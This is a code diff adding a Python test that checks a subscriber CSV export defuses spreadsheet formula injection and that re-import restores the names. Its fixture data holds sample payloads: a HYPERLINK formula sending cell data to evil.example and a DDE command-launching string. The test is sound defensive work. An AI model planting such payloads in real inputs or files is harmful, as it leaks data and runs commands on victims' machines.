@@ -130,3 +130,23 @@ def test_email_unique_case_insensitively_in_the_database(state: sa.Engine) -> No
                 email="A@so.example", email_key="a@so.example", frequency="daily",
                 categories=[], status="active", consent_source="x",
                 created_at=sa.func.now(), updated_at=sa.func.now()))
+
+
+def test_export_neutralises_formulas_and_import_gives_them_back(sqlite_url: str,
+                                                                tmp_path: Path) -> None:
+    """A name from the public form that a spreadsheet would run (OWASP CSV injection)."""
+    engine = sa.create_engine(sqlite_url)
+    upgrade(engine)
+    names = {"a@so.example": '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào")',
+             "b@so.example": "@SUM(1+1)*cmd|' /C calc'!A0", "c@so.example": "-2+3",
+             "d@so.example": "'=giữ nguyên", "e@so.example": "Văn phòng UBND"}
+    for address, name in names.items():
+        operator.add(engine, address, name, "daily", [], "standard")
+    out = io.StringIO()
+    operator.export_csv(engine, out)
+    cells = [line.split(",", 2)[1] for line in out.getvalue().splitlines()[1:]]
+    assert all(not c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), cells
+    elsewhere = sa.create_engine(f"sqlite:///{tmp_path / 'elsewhere.db'}")
+    upgrade(elsewhere)
+    assert operator.import_csv(elsewhere, out.getvalue()).created == 5
+    assert {s.email: s.name for s in operator.list_all(elsewhere)} == names
